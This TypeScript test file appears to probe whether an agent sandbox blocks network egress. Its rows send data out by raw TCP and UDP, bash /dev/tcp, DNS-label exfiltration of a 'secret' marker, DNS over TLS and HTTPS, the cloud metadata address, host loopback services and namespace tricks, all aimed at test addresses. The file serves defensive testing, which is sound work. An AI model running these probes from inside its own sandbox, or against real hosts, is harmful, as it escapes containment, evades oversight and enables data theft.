import { ABSTRACT, type Packet } from '../outer.js';
import { NO_NET } from '../defences.js';
import { node, perl, shell } from '../probe.js';
import { type Outcome, type Room, type Row, worked } from '../row.js';

/** Addresses that stand for the internet; the last number is the row's own. */
const TEST_1 = (room: Room): string => `192.0.2.${room.n}`;
const TEST_2 = (room: Room): string => `198.51.100.${room.n}`;

type Seen = (packet: Packet, room: Room) => boolean;
type Probe = (room: Room) => Promise<Outcome>;

/** An attempt counts as worked when the probe says so, and also when one packet of it was seen outside, whatever the probe says. */
function row(id: string, seenIn: string, probe: Probe, seen: Seen, without = NO_NET): Row {
  return {
    id: `net.${id}`, group: 'network', seenIn,
    attempt: async (room) => {
      const outcome = await probe(room);
      const found = (await room.packets()).find((p) => seen(p, room));
      return found === undefined ? outcome : worked(`a packet of protocol ${found.protocol} to ${found.to} port ${found.port} came out (${outcome.detail})`);
    },
    control: { kind: 'b', without },
  };
}

const to = (address: (room: Room) => string, port?: number): Seen => (p, room) => p.to === address(room) && (port === undefined || p.port === port);
const says = (text: (room: Room) => string): Seen => (p, room) => p.bytes.includes(text(room));

/** Opens a TCP connection by perl. ARGV: family address port. */
const TCP = `use Socket; my ($family, $address, $port) = @ARGV;
socket(my $s, $family, SOCK_STREAM, 0) or refused('socket');
my $to = $family == 10 ? Socket::pack_sockaddr_in6($port, Socket::inet_pton(10, $address)) : sockaddr_in($port, inet_aton($address));
local $SIG{ALRM} = sub { worked('something took the packet') }; alarm 3;
connect($s, $to) or refused('connect'); worked('connected');`;
const UDP = `use Socket; my ($family, $address, $port, $word) = @ARGV;
socket(my $s, $family, SOCK_DGRAM, 0) or refused('socket'); setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1);
my $to = $family == 10 ? Socket::pack_sockaddr_in6($port, Socket::inet_pton(10, $address)) : sockaddr_in($port, inet_aton($address));
defined(send($s, $word, 0, $to)) or refused('send'); worked('sent');`;

const tcp = (address: (room: Room) => string, port: number, family = 2): Probe => (room) => perl(room, TCP, [family, address(room), port]);
const udp = (address: (room: Room) => string, port: number, word = 'x'): Probe => (room) => perl(room, UDP, [2, address(room), port, word]);

/** A question for a name, made by hand: no resolver of the system is needed. ARGV: address port name tcp? */
const QUESTION = `my $q = pack('n6', 4711, 0x100, 1, 0, 0, 0) . join('', map { pack('C/a*', $_) } split /\\./, $ARGV[2]) . pack('C n n', 0, 1, 1);
use Socket; socket(my $s, AF_INET, $ARGV[3] ? SOCK_STREAM : SOCK_DGRAM, 0) or refused('socket');
connect($s, sockaddr_in($ARGV[1], inet_aton($ARGV[0]))) or refused('connect');
defined(send($s, $ARGV[3] ? pack('n/a*', $q) : $q, 0)) or refused('send'); worked('asked');`;

/** What a kernel says where there is no route. gVisor's own says it of every address; Linux says that of a host behind a route, and then something went out. */
const unreachable = (room: Room): string => (room.sandbox.enforced.includes('second_kernel') ? 'EHOSTUNREACH' : 'ENETUNREACH');
const label = (room: Room, id: string): string => `c2VjcmV0-${id}-${room.n}`;

export const NETWORK: readonly Row[] = [
  row('tcp-by-name', 'codex linux-sandbox tests', (room) => node(room, `
    require('net').connect({ host: 'byname-${room.n}.canary.test', port: 80, timeout: 4000 }).on('connect', () => worked('connected')).on('timeout', () => worked('no answer')).on('error', (e) => held(e.code));`),
    says((room) => `byname-${room.n}`)),
  row('tcp-bash-dev-tcp', 'codex linux-sandbox tests', (room) => shell(room, 'exec 2>&1; if (exec 3<>"/dev/tcp/$1/80"); then echo WORKED connected; else echo HELD; fi', [TEST_2(room)]), to(TEST_2)),
  row('udp-bash-dev-udp', 'codex linux-sandbox tests', (room) => shell(room, 'exec 2>&1; if (exec 3<>"/dev/udp/$1/53" && echo x >&3); then echo WORKED sent; else echo HELD; fi', [TEST_2(room)]), to(TEST_2)),
  row('tcp-address-without-proxy', 'codex linux-sandbox tests', (room) => perl(room, TCP, [2, TEST_1(room), 80], { env: { HTTP_PROXY: '', HTTPS_PROXY: '', ALL_PROXY: '', NO_PROXY: '*' } }), to(TEST_1)),
  row('tcp-ssh', 'codex linux-sandbox tests', tcp(TEST_2, 22), to(TEST_2)),
  row('tcp-mail', 'known technique', tcp(TEST_2, 25), to(TEST_2)),
  row('tcp-https', 'sandbox-runtime tests', tcp(TEST_2, 443), to(TEST_2)),
  row('tcp-tls-of-node', 'codex linux-sandbox tests', (room) => node(room, `fetch('https://${TEST_2(room)}/').then((r) => worked(r.status), (e) => ['ECONNRESET', 'ERR_SSL_WRONG_VERSION_NUMBER', 'ERR_SSL_PACKET_LENGTH_TOO_LONG'].includes(e.cause?.code) ? worked(e.cause.code) : held(e.cause?.code ?? e.message));`), to(TEST_2)),
  row('tcp-fast-open', 'known technique', (room) => perl(room, `use Socket; socket(my $s, AF_INET, SOCK_STREAM, 0) or refused('socket'); defined(send($s, 'x', 0x20000000, sockaddr_in(80, inet_aton($ARGV[0])))) or refused('send'); worked('sent');`, [TEST_2(room)]), to(TEST_2)),
  row('tcp-bound-to-device', 'known technique', (room) => perl(room, `use Socket; socket(my $s, AF_INET, SOCK_STREAM, 0) or refused('socket');
    for my $device (qw(eth0 ens3 enp0s3 wlan0 docker0 lo)) { setsockopt($s, 1, 25, pack('Z16', $device)); }
    local $SIG{ALRM} = sub { held('sent on its own loopback, if nobody saw it') }; alarm 1; connect($s, sockaddr_in(80, inet_aton($ARGV[0]))) or refused('connect'); worked('connected');`, [TEST_2(room)]), to(TEST_2)),
  row('mptcp', 'known technique', (room) => perl(room, `use Socket; my $s; for my $protocol (262, 6) { socket($s, AF_INET, SOCK_STREAM, $protocol) and last } defined $s or refused('socket');
    connect($s, sockaddr_in(80, inet_aton($ARGV[0]))) or refused('connect'); worked('connected');`, [TEST_2(room)]), to(TEST_2)),
  row('udp-any-port', 'boundary, nsjail', udp(TEST_2, 40123), to(TEST_2)),
  row('udp-quic', 'known technique', udp(TEST_2, 443), to(TEST_2)),
  row('udp-ntp', 'known technique', udp(TEST_1, 123), to(TEST_1)),
  row('udp-syslog', 'known technique', udp(TEST_1, 514, '<13>secret'), to(TEST_1)),
  row('udp-lite', 'known technique', (room) => perl(room, `use Socket; my $s; for my $protocol (136, 17) { socket($s, AF_INET, SOCK_DGRAM, $protocol) and last }
    defined(send($s, 'x', 0, sockaddr_in(4000, inet_aton($ARGV[0])))) or refused('send'); worked('sent');`, [TEST_2(room)]), to(TEST_2)),
  row('dns-exfiltration', 'sandbox-runtime tests', (room) => node(room, `require('dns').lookup('${label(room, 'lookup')}.x.test', (e, a) => e ? held(e.code) : worked(a));`), says((room) => label(room, 'lookup'))),
  row('dns-resolver-of-the-library', 'sandbox-runtime tests', (room) => shell(room, 'out=$(getent ahostsv4 "$1" 2>&1) && [ -n "$out" ] && echo "WORKED $out" || echo HELD no address', [`${label(room, 'getent')}.x.test`]), says((room) => label(room, 'getent'))),
  row('dns-server-by-address', 'sandbox-runtime tests', (room) => perl(room, QUESTION, [TEST_1(room), 53, 'a.x.test', 0]), to(TEST_1, 53)),
  row('dns-over-tcp', 'known technique', (room) => perl(room, QUESTION, [TEST_1(room), 53, 'a.x.test', 1]), to(TEST_1, 53)),
  row('dns-over-tls', 'known technique', tcp(TEST_1, 853), to(TEST_1)),
  row('dns-over-https', 'known technique', (room) => node(room, `fetch('http://${TEST_1(room)}:443/dns-query?dns=AAABAAABAAAAAAAAAWE', { headers: { accept: 'application/dns-message' } }).then((r) => worked(r.status), (e) => e.cause?.code === '${unreachable(room)}' ? held(e.cause.code) : worked(e.cause?.code));`), to(TEST_1)),
  row('metadata-v4', 'CDK, deepce', tcp(() => '169.254.169.254', 80), to(() => '169.254.169.254', 80)),
  row('metadata-v4-udp', 'CDK, deepce', udp(() => '169.254.169.254', 53), to(() => '169.254.169.254', 53)),
  row('metadata-v6', 'CDK, deepce', tcp(() => 'fd00:ec2::254', 80, 10), to(() => 'fd000ec2000000000000000000000254')),
  row('ipv6', 'sandbox-runtime tests, boundary, nsjail', tcp(() => '2001:db8::1', 443, 10), to(() => '20010db8000000000000000000000001')),
  row('ipv4-mapped', 'sandbox-runtime tests, boundary, nsjail', (room) => perl(room, TCP, [10, `::ffff:${TEST_2(room)}`, 80]), to(TEST_2)),
  row('address-as-a-number', 'known technique', (room) => node(room, `require('net').connect({ host: '${((198 * 256 + 51) * 256 + 100) * 256 + room.n}', port: 80, timeout: 4000 }).on('connect', () => worked('connected')).on('timeout', () => worked('no answer')).on('error', (e) => held(e.code));`), to(TEST_2)),
  row('multicast-dns', 'known technique', (room) => perl(room, `use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 0) or refused('socket'); setsockopt($s, 0, 32, inet_aton('127.0.0.1'));
    defined(send($s, 'mdns-' . $ARGV[0], 0, sockaddr_in(5353, inet_aton('224.0.0.251')))) or refused('send'); held('sent on its own loopback, if nobody saw it');`, [room.n]), says((room) => `mdns-${room.n}`)),
  row('udp-v6', 'boundary, nsjail', (room) => perl(room, UDP, [10, '2001:db8::1', 40124, 'x']), to(() => '20010db8000000000000000000000001', 40124)),
  row('broadcast', 'known technique', (room) => perl(room, `use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 0) or refused('socket'); setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); setsockopt($s, 1, 25, pack('Z16', 'lo'));
    defined(send($s, 'bcast-' . $ARGV[0], 0, sockaddr_in(9, inet_aton('255.255.255.255')))) or refused('send'); held('sent on its own loopback, if nobody saw it');`, [room.n]), says((room) => `bcast-${room.n}`)),
  // Services of the host on loopback: in an own namespace these ports are nobody's.
  ...([['database', 5432], ['model-gateway', 11434], ['proxy', 3128], ['admin', 8080]] as const).map(([name, port]) => loopback(`host-${name}`, '127.0.0.1', port, 2)),
  loopback('host-database-v6', '::1', 5432, 10),
  loopback('host-by-zero-address', '0.0.0.0', 8080, 2),
  {
    id: 'net.abstract-socket', group: 'network', seenIn: 'CDK, deepce, gVisor tests',
    attempt: (room) => perl(room, `use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0) or refused('socket'); connect($s, pack('S a*', 1, "\\0$ARGV[0]")) or refused('connect'); worked('connected');`, [ABSTRACT]),
    control: { kind: 'b', without: NO_NET },
  },
  {
    id: 'net.neighbour-abstract-socket', group: 'network', seenIn: 'CDK, deepce, gVisor tests',
    attempt: (room) => perl(room, NEIGHBOUR_ABSTRACT()),
    control: { kind: 'c', says: 'the neighbour itself connects', run: (room) => perl(room, NEIGHBOUR_ABSTRACT(), [], { in: room.neighbour.sandbox }) },
  },
  {
    id: 'net.neighbour-port', group: 'network', seenIn: 'known technique',
    attempt: (room) => perl(room, TCP, [2, '127.0.0.1', 7777]),
    control: { kind: 'c', says: 'the neighbour itself connects', run: (room) => perl(room, TCP, [2, '127.0.0.1', 7777], { in: room.neighbour.sandbox }) },
  },
  row('proxy-variables-set-inside', 'codex linux-sandbox tests', (room) => node(room, `require('http').get({ host: '${TEST_2(room)}', port: 3128, path: 'http://canary.test/', headers: { host: 'canary.test' } }, (r) => worked(r.statusCode)).on('error', (e) => e.code === '${unreachable(room)}' ? held(e.code) : worked(e.code));`), to(TEST_2, 3128)),
  row('tcp-by-root-of-a-new-namespace', 'sandbox-runtime tests', (room) => shell(room, 'out=$(unshare -Urn bash -c "exec 3<>/dev/tcp/$1/80" 2>&1) && echo WORKED connected || { (exec 3<>"/dev/tcp/$1/80") 2>/dev/null && echo WORKED directly || echo "HELD $out"; }', [TEST_2(room)]), to(TEST_2)),
];

function NEIGHBOUR_ABSTRACT(): string {
  return `use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0) or refused('socket'); connect($s, pack('S a*', 1, "\\0sallyport-neighbour")) or refused('connect'); worked('connected');`;
}

/** Other rows use these ports too, on their own loopback: what counts is whether the probe connects. */
function loopback(id: string, address: string, port: number, family: number): Row {
  return { id: `net.${id}`, group: 'network', seenIn: 'codex linux-sandbox tests', attempt: (room) => perl(room, TCP, [family, address, port]), control: { kind: 'b', without: NO_NET } };
}
